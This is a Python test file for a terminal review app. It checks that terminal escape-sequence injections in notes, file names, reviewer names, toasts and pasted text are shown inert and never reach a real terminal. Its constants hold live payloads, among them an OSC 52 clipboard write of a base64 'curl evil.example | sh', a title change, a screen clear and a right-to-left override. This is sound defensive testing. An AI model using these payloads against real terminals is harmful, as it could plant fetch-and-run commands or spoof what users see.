"""Issue 18, items 1-3: no note, file name or reviewer name can send a control sequence to a
terminal or crash a save.

A crafted review file holds notes (by another editor, and "by you") with the payloads the
security review used: OSC 52 (a command put into the clipboard), a title change, a clear
screen, a C1 CSI, U+202E and an OSC 8 link. They must reach neither the screen's segments
(pilot) nor the bytes written to a real terminal (pty), in the note editor, the thread, the
source pane, the history, or a toast.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from app_helpers import (  # noqa: F401  (isolated_review is an autouse fixture)
    WIDE,
    bundle_path,
    isolated_review,
    open_app,
    screen_segments,
)
from ptyapp import HEADLINE, PtyProcess, app_command, app_env, unique_marker

from tui.model.content import shipped_bundle_path
from tui.model.load import load_bundle
from tui.review.paths import review_paths

REPO = Path(__file__).resolve().parents[1]
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
PAYLOAD = (
    f"see {CLIPBOARD} \x1b]0;PWNED\x07 \x1b[3J\x1b[H\x1b[2JCLEARED \u009b31mC1RED "
    "\u202eRTL \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ end"
)
# What would obey the payload, in what a terminal receives (UTF-8 bytes).
RAW = [b"\x1b]52;", b"\x1b]0;PWNED", b"\x1b[2JCLEARED", b"\xc2\x9b31mC1RED",
       b"\xe2\x80\xaeRTL", b"\x1b]8;;https://evil"]
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def crafted_log(path: Path, story_id: str, entry_id: str, entry_type: str, me: str) -> None:
    """A review log as a hostile neighbour could write it, by hand: raw controls in the
    JSON strings (a log the app writes never holds them), in two reviewers' notes."""
    lines = [{"format": "baghouz-review/2", "story": story_id}]
    for number, author in enumerate(["maria", me]):
        lines.append({
            "change": f"evil{number}", "entry": entry_id, "type": entry_type, "op": "note",
            "reviewer": author, "at": "2025-03-01T09:30:00.000000Z", "fingerprint": None,
            "note": f"note{number}", "text": f"{author}: {PAYLOAD}",
        })
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines),
                    encoding="utf-8")


def assert_inert(app: object, where: str) -> None:
    for segment in screen_segments(app):  # type: ignore[arg-type]
        assert not UNSAFE.search(segment.text), (where, segment)


async def test_notes_with_escapes_are_shown_inert_everywhere(tmp_path: Path) -> None:
    path = bundle_path("second", tmp_path)
    bundle, _ = load_bundle(path)
    first = bundle.events[0]
    log = review_paths(path).shared
    assert log is not None
    crafted_log(log, bundle.story.id, first.id, "event", "ana")
    crafted = log.stat().st_size
    app = open_app("second", tmp_path, reviewer="ana")
    async with app.run_test(size=WIDE) as pilot:
        await pilot.pause()
        assert_inert(app, "source pane")
        await pilot.press("e")  # the thread (maria's note) and the editor (yours)
        from textual.widgets import TextArea

        area = app.screen.query_one(TextArea)
        assert "\x1b" not in area.text and "\u009b" not in area.text
        assert "␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇" in area.text  # visible, inert
        assert_inert(app, "note editor")
        await pilot.press("end", "x", "ctrl+s")  # saving it writes no raw control either
        written = log.read_bytes()[crafted:]
        assert written.count(b"\n") == 1 and b"ana:" in written
        assert not any(raw in written for raw in RAW)
        await pilot.press("h")
        assert_inert(app, "history")
        await pilot.press("escape")


async def test_a_toast_never_carries_a_control_sequence(tmp_path: Path) -> None:
    """Another editor's change arrives, and is told in a toast quoting their note."""
    app = open_app("second", tmp_path, reviewer="ana")
    async with app.run_test(size=WIDE, notifications=True) as pilot:
        await pilot.pause()
        entry = app.screen.query_one("#timeline").current
        log = app.review.path
        new = not log.exists()
        with open(log, "a", encoding="utf-8") as file:
            if new:
                file.write(json.dumps({"format": "baghouz-review/2",
                                       "story": app.bundle.story.id}) + "\n")
            file.write(json.dumps({
                "change": "evil", "entry": entry.id, "type": "event", "op": "note",
                "reviewer": "maria\x1b]0;PWNED\x07", "at": "2025-03-01T09:30:00.000000Z",
                "fingerprint": None, "note": "n", "text": PAYLOAD,
            }, ensure_ascii=False) + "\n")
        await pilot.press("ctrl+r")
        await pilot.pause()
        messages = [n.message for n in app._notifications]
        assert any("maria" in m and "noted" in m for m in messages), messages
        assert not any(UNSAFE.search(m) for m in messages), messages
        assert_inert(app, "toast")


async def test_a_path_with_escapes_is_shown_inert_in_the_apps_warning(tmp_path: Path) -> None:
    folder = tmp_path / "desk\x1b]0;PWNED\x07\u202e"
    folder.mkdir()
    bundle_file = folder / "story.toml"
    bundle_file.write_bytes((REPO / "tests" / "app_fixtures" / "second.toml").read_bytes())
    (folder / "story.review.jsonl").write_bytes(b"garbage, not a review\n")
    bundle, _ = load_bundle(bundle_file)
    from tui.app import BaghouzApp

    app = BaghouzApp(bundle, reviewer="ana")
    async with app.run_test(size=WIDE, notifications=True) as pilot:
        await pilot.pause()
        messages = [n.message for n in app._notifications]
        warning = next(m for m in messages if "not usable" in m)
        assert "desk\\x1b]0;PWNED\\x07\\u202e" in warning  # shown, escaped
        assert not UNSAFE.search(warning)
        assert_inert(app, "warning toast")


def test_report_names_a_path_with_escapes_inert(tmp_path: Path) -> None:
    folder = tmp_path / "desk\x1b]0;PWNED\x07"
    folder.mkdir()
    bundle_file = folder / "story.toml"
    bundle_file.write_bytes((REPO / "tests" / "app_fixtures" / "second.toml").read_bytes())
    (folder / "story.review.jsonl").write_bytes(b"garbage\n")
    result = subprocess.run([sys.executable, "-m", "tui", "report", str(bundle_file)],
                            capture_output=True, cwd=REPO, check=False, timeout=60)
    assert result.returncode == 1
    assert b"\x1b" not in result.stderr and b"\x1b" not in result.stdout
    assert b"desk\\x1b]0;PWNED\\x07" in result.stderr


@pytest.mark.slow
def test_a_real_terminal_receives_none_of_the_payload(tmp_path: Path) -> None:
    """The bytes the app writes to a pty while showing the thread, the editor, the history
    and the source pane: none of the sequences the notes hold."""
    bundle, _ = load_bundle(shipped_bundle_path())
    first = bundle.events[0]
    marker = unique_marker("inject")
    env = app_env(tmp_path)
    data = Path(env["XDG_DATA_HOME"])
    old = os.environ.get("XDG_DATA_HOME")
    os.environ["XDG_DATA_HOME"] = str(data)
    try:
        log = review_paths(shipped_bundle_path(), prefer_beside=False,
                           story_id=bundle.story.id).private
    finally:
        if old is None:
            del os.environ["XDG_DATA_HOME"]
        else:
            os.environ["XDG_DATA_HOME"] = old
    crafted_log(log, bundle.story.id, first.id, "event", marker)
    with PtyProcess(app_command(marker), env=env, cols=120, rows=36) as app:
        assert app.wait_for_text(HEADLINE, 15), app.describe()
        app.wait_for_quiet(0.3, 5)
        for keys in ("e", "\x1b", "h", "\x1b"):
            app.send(keys)
            app.wait_for_quiet(0.3, 5)
        assert app.wait_for_text("CLEARED", 5)  # the note was drawn, as text
        app.send("q")
        assert app.wait(15) is not None
        output = app.output
    assert not [raw for raw in RAW if raw in output], [raw for raw in RAW if raw in output]


@pytest.mark.parametrize("source", ["--reviewer", "$USER"])
def test_a_reviewer_name_that_is_not_utf8_is_refused_at_start(
    tmp_path: Path, source: str
) -> None:
    """Item 3: no UnicodeEncodeError at the first mark, losing it: a clear message at once."""
    bundle_file = bundle_path("second", tmp_path)
    argv = [os.fsencode(sys.executable), b"-m", b"tui", os.fsencode(bundle_file)]
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    env_bytes = {os.fsencode(k): os.fsencode(v) for k, v in env.items()}
    if source == "--reviewer":
        argv += [b"--reviewer", b"caf\xe9"]
    else:
        env_bytes[b"USER"] = b"caf\xe9"
    result = subprocess.run(argv, env=env_bytes, capture_output=True, cwd=REPO, check=False,
                            timeout=60, stdin=subprocess.DEVNULL)
    assert result.returncode == 2, result
    assert b"Traceback" not in result.stderr
    assert b"not valid UTF-8" in result.stderr and b"--reviewer NAME" in result.stderr
    assert b"\\xe9" in result.stderr  # the byte, shown
    assert not bundle_file.with_suffix(".review.jsonl").exists()


async def test_every_toast_is_made_inert_whoever_builds_its_text(tmp_path: Path) -> None:
    """Messages are built from safe pieces, and the app makes sure once more: a toast from
    any screen or widget (markup or not) cannot carry a control sequence."""
    app = open_app("second", tmp_path)
    async with app.run_test(size=WIDE, notifications=True) as pilot:
        app.screen.notify(f"from a screen {PAYLOAD}", title="t\x1b]0;x\x07", markup=False)
        app.query_one("#timeline").notify(f"from a widget {PAYLOAD}")
        await pilot.pause()
        for notification in app._notifications:
            assert not UNSAFE.search(notification.message + notification.title)
        assert_inert(app, "toasts")


async def test_a_paste_into_the_note_editor_or_the_search_line_is_inert(tmp_path: Path) -> None:
    """Typed or pasted text lands in an editable widget: a clipboard holding escapes
    (copied from a web page, say) must not reach the terminal through it either."""
    from textual import events
    from textual.widgets import Input, TextArea

    app = open_app("second", tmp_path, reviewer="ana")
    async with app.run_test(size=WIDE) as pilot:
        await pilot.pause()
        await pilot.press("e")
        area = app.screen.query_one(TextArea)
        area.post_message(events.Paste(f"pasted {PAYLOAD}\nsecond line"))
        await pilot.pause()
        assert "\x1b" not in area.text and "\u202e" not in area.text
        assert "second line" in area.text and "\n" in area.text  # line breaks are kept
        assert_inert(app, "note editor after a paste")
        await pilot.press("ctrl+s")
        entry = app.screen.query_one("#timeline").current
        assert not UNSAFE.search((app.review.note_of(entry.id) or "").replace("\n", ""))
        await pilot.press("slash")
        search = app.screen.query_one("#search-input", Input)
        search.post_message(events.Paste(PAYLOAD))
        await pilot.pause()
        assert not UNSAFE.search(search.value), search.value
        assert_inert(app, "search line after a paste")
